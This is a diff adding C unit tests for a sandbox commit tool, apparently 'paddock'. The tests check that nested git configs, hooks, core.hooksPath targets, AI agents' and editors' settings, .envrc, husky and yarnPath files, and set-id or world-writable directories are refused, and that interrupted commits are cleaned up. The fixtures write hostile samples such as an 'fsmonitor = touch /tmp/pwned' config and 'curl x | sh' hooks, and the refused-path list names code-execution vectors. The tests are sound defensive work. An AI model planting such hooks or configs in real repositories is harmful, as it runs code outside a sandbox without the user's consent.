@@ -379,6 +379,264 @@ static void t_protected_and_special(void **state)
     ws_free(w);
 }
 
+/* Code that runs outside the sandbox later is refused wherever it lies: nested
+ * repositories, submodules, a core.hooksPath the real configuration names, a bare
+ * repository, agents' and tools' settings at any depth; directories that gain a set-id,
+ * sticky or world-writable bit are refused even with --include-protected. */
+static void t_protected_at_every_depth(void **state)
+{
+    if (!need_root())
+        skip();
+    ws *w = ws_new();
+    mkd(w->lower, ".git", 0755);
+    /* the real configuration names the hooks directory; the session's copy is not read */
+    put(w->lower, ".git/config", "[core]\n\thooksPath = tools/hooks\n", 0644);
+    mkd(w->lower, ".git/modules", 0755);
+    mkd(w->lower, ".git/modules/m", 0755);
+    put(w->lower, ".git/modules/m/config", "[core]\n", 0644);
+    mkd(w->lower, "sub", 0755);
+    mkd(w->lower, "sub/.git", 0755);
+    put(w->lower, "sub/.git/config", "[core]\n", 0644);
+    mkd(w->lower, "bare", 0755);
+    put(w->lower, "bare/HEAD", "ref: refs/heads/main\n", 0644);
+    mkd(w->lower, "tools", 0755);
+    mkd(w->lower, "src", 0755);
+    mkd(w->lower, "shared", 0755);
+    mkd(w->lower, "drop", 01777);
+    ws_snapshot(w);
+    int64_t baseline = baseline_now(w);
+    static const char *const refused[] = {
+        "sub/.git/config",
+        "sub/.git/hooks/pre-commit",
+        "new/.git/config",
+        ".git/modules/m/config",
+        ".git/modules/m/hooks/post-checkout",
+        ".claude/settings.local.json",
+        "pkg/.mcp.json",
+        "pkg/.claude/settings.json",
+        "x/.envrc",
+        ".gitmodules",
+        ".husky/pre-commit",
+        "pkg/.vscode/tasks.json",
+        ".devcontainer/devcontainer.json",
+        ".yarnrc.yml",
+        ".cursor/mcp.json",
+        ".gemini/settings.json",
+        "tools/hooks/pre-push",
+        "bare/config",
+    };
+    o_put(w, "sub/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n", 0644);
+    o_mkdir(w, "sub/.git/hooks", 0755);
+    o_put(w, "sub/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
+    o_mkdir(w, "new", 0755);
+    o_mkdir(w, "new/.git", 0755);
+    o_put(w, "new/.git/config", "[core]\n\tfsmonitor = x\n", 0644);
+    o_put(w, ".git/modules/m/config", "[core]\n\tfsmonitor = x\n", 0644);
+    o_mkdir(w, ".git/modules/m/hooks", 0755);
+    o_put(w, ".git/modules/m/hooks/post-checkout", "#!/bin/sh\n", 0755);
+    o_put(w, ".git/config", "[core]\n\thooksPath = elsewhere\n", 0644);
+    o_mkdir(w, ".claude", 0755);
+    o_put(w, ".claude/settings.local.json", "{}\n", 0644);
+    o_mkdir(w, "pkg", 0755);
+    o_put(w, "pkg/.mcp.json", "{}\n", 0644);
+    o_mkdir(w, "pkg/.claude", 0755);
+    o_put(w, "pkg/.claude/settings.json", "{}\n", 0644);
+    o_mkdir(w, "x", 0755);
+    o_put(w, "x/.envrc", "curl x | sh\n", 0644);
+    o_put(w, ".gitmodules", "[submodule \"m\"]\n", 0644);
+    o_mkdir(w, ".husky", 0755);
+    o_put(w, ".husky/pre-commit", "curl x | sh\n", 0755);
+    o_mkdir(w, "pkg/.vscode", 0755);
+    o_put(w, "pkg/.vscode/tasks.json", "{}\n", 0644);
+    o_mkdir(w, ".devcontainer", 0755);
+    o_put(w, ".devcontainer/devcontainer.json", "{}\n", 0644);
+    o_put(w, ".yarnrc.yml", "yarnPath: evil.js\n", 0644);
+    o_mkdir(w, ".cursor", 0755);
+    o_put(w, ".cursor/mcp.json", "{}\n", 0644);
+    o_mkdir(w, ".gemini", 0755);
+    o_put(w, ".gemini/settings.json", "{}\n", 0644);
+    o_mkdir(w, "tools/hooks", 0755);
+    o_put(w, "tools/hooks/pre-push", "curl x | sh\n", 0755);
+    o_put(w, "bare/config", "[core]\n\tfsmonitor = x\n", 0644);
+    /* a .git file sends git to another directory; a .claude symlink to other settings */
+    o_mkdir(w, "wt", 0755);
+    o_put(w, "wt/.git", "gitdir: ../elsewhere\n", 0644);
+    o_mkdir(w, "lnk", 0755);
+    o_sym(w, "lnk/.claude", "../pkg/.claude");
+    /* not protected: a config with no HEAD beside it, a file named like a hook dir */
+    o_put(w, "src/config", "x\n", 0644);
+    o_put(w, "src/hooks.md", "x\n", 0644);
+    /* modes */
+    mkd(w->upper, "shared", 02775);
+    mkd(w->expect, "shared", 02775);
+    o_mkdir(w, "open", 0777);
+    mkd(w->upper, "drop", 0777); /* loses the sticky bit: adds nothing */
+    mkd(w->expect, "drop", 0777);
+
+    pdk_commit_request req = request(w, baseline);
+    char *protected_paths[] = {".git/hooks/", ".git/config", NULL};
+    req.protected_paths = protected_paths;
+    pdk_commit_result res;
+    pdk_error err = {0};
+    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
+    for (size_t i = 0; i < PDK_ARRAY_SIZE(refused); i++)
+        assert_refused(&res, refused[i], "--include-protected");
+    assert_refused(&res, "tools/hooks/pre-push", "core.hooksPath");
+    assert_refused(&res, "bare/config", "HEAD");
+    assert_refused(&res, "wt/.git", "protected");
+    assert_refused(&res, "lnk/.claude", "protected");
+    assert_refused(&res, ".git/config", "protected");
+    assert_refused(&res, "shared", "mode 2775");
+    assert_refused(&res, "open", "mode 777");
+    assert_null(refusal(&res, "src/config"));
+    assert_null(refusal(&res, "src/hooks.md"));
+    assert_null(refusal(&res, "drop"));
+    pdk_commit_result_free(&res);
+    /* The session's copy of .git/config names another hooks directory: not believed. */
+    req.allow_protected = true;
+    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
+    assert_int_equal(res.refused_count, 2);
+    assert_refused(&res, "shared", "set-id, sticky or world-writable");
+    assert_refused(&res, "open", "set-id, sticky or world-writable");
+    pdk_commit_result_free(&res);
+    _cleanup_free_ char *pwned = at(w->lower, "sub/.git/config");
+    char *content = NULL;
+    assert_int_equal(pdk_read_file_at(AT_FDCWD, pwned, &content, NULL, 0), 0);
+    assert_null(strstr(content, "fsmonitor")); /* nothing was written */
+    free(content);
+    ws_free(w);
+}
+
+/* A hooksPath of a nested repository, and one a .git file's directory names. */
+static void t_hooks_path_of_each_repository(void **state)
+{
+    if (!need_root())
+        skip();
+    ws *w = ws_new();
+    mkd(w->lower, "a", 0755);
+    mkd(w->lower, "a/.git", 0755);
+    put(w->lower, "a/.git/config", "[core]\n\thooksPath = \"../shared hooks\"\n", 0644);
+    mkd(w->lower, "gd", 0755);
+    put(w->lower, "gd/config", "[core] hooksPath = hk\n", 0644);
+    mkd(w->lower, "b", 0755);
+    put(w->lower, "b/.git", "gitdir: ../gd\n", 0644);
+    ws_snapshot(w);
+    int64_t baseline = baseline_now(w);
+    o_mkdir(w, "shared hooks", 0755);
+    o_put(w, "shared hooks/pre-commit", "x\n", 0755);
+    o_mkdir(w, "b/hk", 0755);
+    o_put(w, "b/hk/post-merge", "x\n", 0755);
+    o_put(w, "b/fine", "x\n", 0644);
+    o_mkdir(w, "a/hk", 0755);
+    o_put(w, "a/hk/not-a-hook", "x\n", 0644);
+    pdk_commit_request req = request(w, baseline);
+    pdk_commit_result res;
+    pdk_error err = {0};
+    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
+    /* a's hooksPath, outside a's own tree: a has a change, so its configuration is read */
+    assert_refused(&res, "shared hooks/pre-commit", "core.hooksPath");
+    assert_refused(&res, "b/hk/post-merge", "core.hooksPath");
+    assert_null(refusal(&res, "b/fine"));
+    assert_null(refusal(&res, "a/hk/not-a-hook"));
+    pdk_commit_result_free(&res);
+    ws_free(w);
+}
+
+/* Temporary entries: in the session's directory when it shares the workspace's mount,
+ * beside the target (O_TMPFILE, a journal) when not; what a killed commit left is removed
+ * by the next. */
+static void commit_with_session_dir(ws *w, const char *session_dir)
+{
+    put(w->lower, "mod", "old\n", 0644);
+    put(w->lower, "to-dir", "file\n", 0644);
+    put(w->lower, "to-link", "file\n", 0644);
+    mkd(w->lower, "d", 0755);
+    ws_snapshot(w);
+    int64_t baseline = baseline_now(w);
+    o_put(w, "mod", "new\n", 0644);
+    o_put(w, "d/added", "added\n", 0600);
+    o_sym(w, "to-link", "mod");
+    o_rm(w, "to-dir");
+    o_fresh_dir(w, "to-dir", 0750);
+    o_put(w, "to-dir/in", "in\n", 0644);
+    pdk_commit_request req = request(w, baseline);
+    req.session_dir = session_dir;
+    pdk_commit_result res;
+    pdk_error err = {0};
+    if (pdk_commit_apply(&req, &res, &err) < 0)
+        fail_msg("commit: %s", err.message);
+    pdk_commit_result_free(&res);
+    assert_trees_equal(w->lower, w->expect);
+    _cleanup_free_ char *leftovers =
+        xasprintf("find '%s' '%s' -name '.paddock-commit.*' -o -name commit-tmp -o -name "
+                  "commit-journal | grep -q .",
+                  w->lower, session_dir);
+    assert_int_not_equal(run(leftovers), 0);
+}
+
+static void t_temporaries_out_of_the_tree(void **state)
+{
+    if (!need_root())
+        skip();
+    ws *w = ws_new();
+    _cleanup_free_ char *session_dir = at(w->root, "session");
+    mkd(w->root, "session", 0700);
+    commit_with_session_dir(w, session_dir);
+    ws_free(w);
+
+    /* on another mount (a tmpfs): beside the targets */
+    w = ws_new();
+    char shm[] = "/dev/shm/pdk-test-session-XXXXXX";
+    if (!mkdtemp(shm))
+        fail_msg("mkdtemp: %s", strerror(errno));
+    commit_with_session_dir(w, shm);
+    rm_rf(shm);
+    ws_free(w);
+}
+
+static void t_recover_a_killed_commit(void **state)
+{
+    if (!need_root())
+        skip();
+    ws *w = ws_new();
+    mkd(w->root, "session", 0700);
+    mkd(w->root, "session/commit-tmp", 0700);
+    put(w->root, "session/commit-tmp/3", "half a file", 0600);
+    mkd(w->lower, "sub", 0755);
+    put(w->lower, ".paddock-commit.4242.0", "half", 0600);
+    put(w->lower, "sub/.paddock-commit.4242.7", "half", 0600);
+    mkd(w->lower, "sub/.paddock-commit.4242.8", 0700);
+    put(w->lower, ".paddock-commit.77.0", "another commit's, or the user's", 0644);
+    put(w->lower, "keep", "k\n", 0644);
+    static const char journal[] = "paddock commit temporary files 1\n4242\n\0sub\0gone\0";
+    _cleanup_free_ char *jp = at(w->root, "session/commit-journal");
+    int fd = open(jp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+    assert_true(fd >= 0);
+    assert_int_equal(pdk_write_all(fd, journal, sizeof(journal) - 1), 0);
+    close(fd);
+    ws_open(w);
+    _cleanup_free_ char *session_dir = at(w->root, "session");
+    pdk_error err = {0};
+    assert_int_equal(pdk_commit_recover(w->lower_fd, session_dir, &err), 3);
+    _cleanup_free_ char *left =
+        xasprintf("cd '%s' && find . -name '.paddock-commit.*' | sort | tr '\\n' ' '", w->lower);
+    _cleanup_free_ char *got = NULL;
+    FILE *f = popen(left, "r");
+    char line[512] = "";
+    assert_non_null(f);
+    if (!fgets(line, sizeof(line), f))
+        line[0] = '\0';
+    pclose(f);
+    assert_string_equal(line, "./.paddock-commit.77.0 ");
+    assert_true(access(jp, F_OK) < 0);
+    _cleanup_free_ char *tmpdir = at(w->root, "session/commit-tmp");
+    assert_true(access(tmpdir, F_OK) < 0);
+    /* nothing left to do: 0 */
+    assert_int_equal(pdk_commit_recover(w->lower_fd, session_dir, &err), 0);
+    (void)got;
+    ws_free(w);
+}
+
 static void t_partial_commit(void **state)
 {
     if (!need_root())
@@ -759,7 +1017,8 @@ static void real_overlay(bool userns)
         scan(w, NULL, &l2);
         pdk_buf patch = {0};
         pdk_error err = {0};
-        assert_int_equal(pdk_diffrender_patch(&l2, w->lower_fd, w->upper_fd, NULL, &patch, &err),
+        pdk_diffrender_options raw = {.context = -1, .raw = true};
+        assert_int_equal(pdk_diffrender_patch(&l2, w->lower_fd, w->upper_fd, &raw, &patch, &err),
                          0);
         pdk_change_list_free(&l2);
         put(w->root, "overlay.patch", patch.data, 0644);
@@ -821,6 +1080,10 @@ int main(void)
         cmocka_unit_test_teardown(t_conflicts, teardown),
         cmocka_unit_test_teardown(t_committed_paths, teardown),
         cmocka_unit_test_teardown(t_protected_and_special, teardown),
+        cmocka_unit_test_teardown(t_protected_at_every_depth, teardown),
+        cmocka_unit_test_teardown(t_hooks_path_of_each_repository, teardown),
+        cmocka_unit_test_teardown(t_temporaries_out_of_the_tree, teardown),
+        cmocka_unit_test_teardown(t_recover_a_killed_commit, teardown),
         cmocka_unit_test_teardown(t_partial_commit, teardown),
         cmocka_unit_test_teardown(t_dry_run, teardown),
         cmocka_unit_test_teardown(t_symlinks_planted_in_upper, teardown),
